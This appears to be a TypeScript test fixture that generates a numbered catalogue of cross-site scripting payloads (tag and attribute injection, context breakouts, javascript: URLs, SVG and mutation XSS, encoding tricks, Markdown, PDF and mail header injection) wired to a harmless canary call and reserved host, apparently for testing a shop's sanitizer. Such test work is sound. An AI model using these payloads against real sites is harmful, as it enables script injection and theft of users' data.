/** Where a payload would fetch from; nothing of the shop names it. */
export const canaryHost = 'canary.invalid'

/** What a payload calls where it runs. */
export const canaryCall = 'ranHere'

/** Each family of what has made pages, mails and documents run somebody else's script. RUN is the call, HOST its host. */
const families: Record<string, readonly string[]> = {
  tags: [
    '<script>RUN</script>',
    '<SCRIPT SRC=https://HOST/a.js></SCRIPT>',
    '<script/x>RUN</script >',
    '<scr<script>ipt>RUN</scr</script>ipt>',
    '<iframe src="https://HOST/frame"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<object data="https://HOST/o"></object>',
    '<embed src="https://HOST/e">',
    '<base href="https://HOST/">',
    '<meta http-equiv="refresh" content="0;url=https://HOST/">',
    '<link rel="stylesheet" href="https://HOST/a.css">',
    '<form action="https://HOST/"><button autofocus>x</button></form>',
    '<isindex action="javascript:RUN" type="image">',
    '<portal src="https://HOST/"></portal>',
  ],
  attributes: [
    '<img src=x onerror=RUN>',
    '<img src=x onerror="RUN"//',
    '<img/src=`x`/onerror=RUN>',
    '<body onload=RUN>',
    '<input autofocus onfocus=RUN>',
    '<details open ontoggle=RUN>x</details>',
    '<video><source onerror=RUN></video>',
    '<audio src=x onerror=RUN></audio>',
    '<marquee onstart=RUN>x</marquee>',
    '<p style="animation:x 1s" onanimationstart=RUN>x</p>',
    '<div onpointerover=RUN tabindex=0 onfocus=RUN autofocus>x</div>',
    '<button popovertarget=x onbeforetoggle=RUN>x</button>',
    '" autofocus onfocus="RUN" x="',
    "' autofocus onfocus='RUN' x='",
    '"><img src=x onerror=RUN>',
    "'><img src=x onerror=RUN>",
    '`><img src=x onerror=RUN>',
    '--><img src=x onerror=RUN>',
    '"]><img src=x onerror=RUN>',
  ],
  'endings of what stands around': [
    '</script><script>RUN</script>',
    '</title><script>RUN</script>',
    '</textarea><script>RUN</script>',
    '</style><script>RUN</script>',
    '</noscript><img src=x onerror=RUN>',
    '</template><img src=x onerror=RUN>',
    '</pre></table></select><img src=x onerror=RUN>',
    '"}</script><script>RUN</script>',
    '\\"};RUN;//',
    "';RUN;//",
    '";RUN;//',
    '$' + '{RUN}',
    '{{constructor.constructor("RUN")()}}',
    '<%= RUN %>',
  ],
  addresses: [
    '<a href="javascript:RUN">x</a>',
    '<a href="java&#9;script:RUN">x</a>',
    '<a href=" &#1;javascript:RUN">x</a>',
    '<a href="data:text/html,<script>RUN</script>">x</a>',
    '<a href="vbscript:RUN">x</a>',
    'javascript:RUN',
    'JaVaScRiPt:RUN//https://HOST/',
    'data:text/html;base64,PHNjcmlwdD5yYW5IZXJlKCk8L3NjcmlwdD4=',
    '//HOST/%0a<script>RUN</script>',
    'https://shop.example@HOST/"><script>RUN</script>',
  ],
  drawings: [
    '<svg onload=RUN>',
    '<svg><script>RUN</script></svg>',
    '<svg><animate onbegin=RUN attributeName=x dur=1s>',
    '<svg><a xlink:href="javascript:RUN"><text y=9>x</text></a></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>',
    '<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>',
    '<svg><set attributeName=href to=javascript:RUN></svg>',
    '<math href="javascript:RUN">x</math>',
    '<math><mtext></p><img src=x onerror=RUN></mtext></math>',
  ],
  'markup that changes when it is written again': [
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=RUN>">',
    '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<template><img src=x onerror=RUN></template>',
    '<select><template><img src=x onerror=RUN>',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>',
    '<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>',
  ],
  'letters in disguise': [
    '&lt;script&gt;RUN&lt;/script&gt;',
    '&#60;img src=x onerror=RUN&#62;',
    '&amp;lt;img src=x onerror=RUN&amp;gt;',
    '\\u003cimg src=x onerror=RUN\\u003e',
    '%3Cimg%20src=x%20onerror=RUN%3E',
    '\uff1cimg src=x onerror=RUN\uff1e',
    '<img\u2028src=x\u2028onerror=RUN>',
    '\u202e<img src=x onerror=RUN>\u202c',
    '+ADw-script+AD4-RUN+ADw-/script+AD4-',
    '<\u0131mg src=x onerror=RUN><im\u0261 src=x onerror=RUN>',
  ],
  'styles and comments': [
    '<style>@import "https://HOST/a.css";</style>',
    '<p style="background:url(https://HOST/b.png)">x</p>',
    '</style><link rel=stylesheet href=https://HOST/c.css>',
    '<!--><img src=x onerror=RUN>-->',
    '<!-- --!><img src=x onerror=RUN>',
    '<![CDATA[><img src=x onerror=RUN>]]>',
    '<?xml-stylesheet href="javascript:RUN"?><img src=x onerror=RUN>',
  ],
  Markdown: [
    '[x](javascript:RUN)',
    '[x](<java script:RUN>)',
    '[x](&#106;avascript:RUN)',
    '![x](javascript:RUN "x\\" onerror=RUN")',
    '<javascript:RUN>',
    '[x]: javascript:RUN',
    '`<img src=x onerror=RUN>` **<img src=x onerror=RUN>**',
  ],
  'mails and documents': [
    'x) /S /URI /URI (https://HOST/) >> endobj /JavaScript (RUN)',
    'x\\) /OpenAction << /S /JavaScript /JS (RUN) >>',
    'x Bcc: canary@HOST Content-Type: text/html <script>RUN</script>',
  ],
}

/** A payload of a number, which it tells where it runs. */
export type Payload = { number: number; family: string; text: string }

export const payloads: readonly Payload[] = Object.entries(families)
  .flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
  .map(({ family, text }, index) => ({
    ...{ number: index + 1, family },
    text: text.replaceAll('RUN', `${canaryCall}(${index + 1})`).replaceAll('HOST', canaryHost),
  }))
